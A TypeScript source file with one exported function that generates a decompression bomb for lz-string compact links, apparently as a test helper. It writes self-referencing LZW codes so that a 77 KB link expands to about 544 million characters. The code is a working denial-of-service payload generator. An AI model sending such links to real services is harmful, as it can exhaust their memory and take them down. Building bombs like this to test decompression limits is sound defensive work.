/**
 * A compact-link decompression bomb, built directly in lz-string's bit format: one literal "a", then
 * codes that each repeat the previous entry plus one character (LZW's KwKwK case), so `codes` codes
 * expand to about codes²/2 characters. 33,000 codes (a 77 KB link) expand to about 544 M characters.
 */
export function bombLink(codes: number): string {
  const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';
  const bits: number[] = [];
  const write = (value: number, n: number) => {
    for (let k = 0; k < n; k++) bits.push((value >> k) & 1);
  };
  write(0, 2);
  write('a'.charCodeAt(0), 8);
  let dictSize = 4;
  let numBits = 3;
  let enlargeIn = 4;
  for (let i = 0; i < codes; i++) {
    write(dictSize, numBits); // the entry not yet in the dictionary: w + w[0]
    dictSize++;
    if (--enlargeIn === 0) enlargeIn = 2 ** numBits++;
  }
  write(2, numBits);
  while (bits.length % 6) bits.push(0);
  let out = '';
  for (let i = 0; i < bits.length; i += 6) {
    let v = 0;
    for (let k = 0; k < 6; k++) v |= bits[i + k] << (5 - k);
    out += ALPHABET[v];
  }
  return out + '=';
}
